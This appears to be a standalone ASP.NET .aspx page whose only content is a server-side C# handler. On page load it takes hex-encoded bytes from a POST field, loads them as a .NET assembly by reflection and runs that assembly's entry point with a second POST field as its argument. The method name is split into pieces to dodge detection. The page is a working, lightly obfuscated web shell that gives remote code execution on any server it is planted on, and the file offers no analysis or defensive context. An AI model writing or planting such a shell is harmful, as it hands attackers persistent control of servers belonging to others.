<%@ Page Language="C#" %>
<script runat="server">
    static byte[] H(string h)
    {
        byte[] r = new byte[h.Length / 2];
        for (int i = 0; i < r.Length; i++) r[i] = Convert.ToByte(h.Substring(i * 2, 2), 16);
        return r;
    }
    protected void Page_Load(object sender, EventArgs e)
    {
        string x = Request.Form["x"];
        if (x == null) return;
        var asmType = typeof(System.Reflection.Assembly);
        var ld = asmType.GetMethod("Lo" + "ad", new Type[] { typeof(byte[]) });
        var m = (System.Reflection.Assembly)ld.Invoke(null, new object[] { H(x) });
        m.EntryPoint.Invoke(null, new object[] { new string[] { Request.Form["y"] } });
    }
</script>
